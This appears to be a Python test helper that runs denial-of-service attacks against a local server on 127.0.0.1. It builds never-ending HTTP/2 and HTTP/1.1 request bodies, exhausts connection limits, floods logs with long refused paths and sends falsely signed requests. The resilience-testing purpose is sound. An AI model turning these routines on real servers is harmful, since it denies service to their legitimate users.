"""What somebody does who wants to keep others from being served.

Each function attacks a server without an end. Where the connections come from is given, so that an
attack counts as another address than the clients that it is to harm.
"""

import contextlib
import multiprocessing
import os
import socket
import struct
import threading
import time

from raw import Request, sign

HTTP2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, SETTINGS, DATA = 1, 4, 0
END_HEADERS = 4


def frame(kind, flags, stream, payload=b""):
    """A frame of HTTP/2 (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _text(text):
    """A string of HPACK without Huffman coding (RFC 7541, section 5.2)."""
    length = len(text)
    if length < 127:
        return bytes([length]) + text
    encoded, length = [127], length - 127
    while length >= 128:
        encoded.append(length % 128 + 128)
        length //= 128
    return bytes([*encoded, length]) + text


def unfinished_requests(headers, streams):
    """The bytes of an HTTP/2 connection whose requests each lack the end of a body of one byte."""
    block = b"".join(b"\0" + _text(name) + _text(value) for name, value in headers)
    sent = HTTP2_PREFACE + frame(SETTINGS, 0, 0)
    for stream in range(1, 2 * streams, 2):
        sent += frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, b"{")
    return sent


def unsigned_headers(path):
    """The headers of a PutKey by a caller without any key, for HTTP/2."""
    pairs = {":method": "PUT", ":scheme": "https", ":authority": "127.0.0.1", ":path": path}
    return [(name.encode(), value.encode()) for name, value in pairs.items()]


def send(connection, sent):
    """Sends all that the other end takes: a refusal may come before the end of a body."""
    with contextlib.suppress(OSError):
        connection.sendall(sent)


def head_of_body(path, length, method="POST"):
    """The head of a request without a signature, whose body is to have that length."""
    return f"{method} {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {length}\r\n\r\n".encode()


def head_of_claim(caller, path, length, key, secret="wrong"):
    """The same with the signature of a key that need not exist, or not with that secret."""
    request = Request("POST", path, headers={"content-type": "application/json"}, body=b"{}")
    signed = sign(request, caller, "data", scheme="sigv4", key=key, secret=secret)
    signed = signed.but({"content-length": str(length)}, body=b"")
    return signed.bytes(caller.server, connection="keep-alive")


def run(attack, *arguments):
    """Attacks in a process of its own, for as long as the one that started it lives."""

    def end_with_parent():
        multiprocessing.parent_process().join()
        os._exit(0)

    threading.Thread(target=end_with_parent, daemon=True).start()
    attack(*arguments)


def unfinished_bodies(port, source, head, sent, count):
    """Keeps requests in flight whose bodies don't end."""
    while True:
        connections = [_open(port, source) for _ in range(count)]
        for connection in filter(None, connections):
            send(connection, head + sent)
        time.sleep(1)
        _close(connections)


def idle_connections(port, source, count):
    """Keeps more connections open than an address may have, and opens those anew that are closed."""
    connections = []
    while True:
        connections.append(_open(port, source))
        if len(connections) >= count:
            _close(connections[: count // 2])
            del connections[: count // 2]
        time.sleep(0.001)


def refused_requests(port, source):
    """Fills the log, by requests that are refused with long paths."""
    request = b"GET /" + b"a" * 8000 + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    while True:
        connection = _open(port, source)
        if connection is None:
            continue
        with connection, contextlib.suppress(OSError):
            connection.sendall(request)
            while connection.recv(65536):
                pass
        time.sleep(0.005)


def _open(port, source):
    with contextlib.suppress(OSError):
        return socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(source, 0))


def _close(connections):
    for connection in filter(None, connections):
        with contextlib.suppress(OSError):
            connection.close()
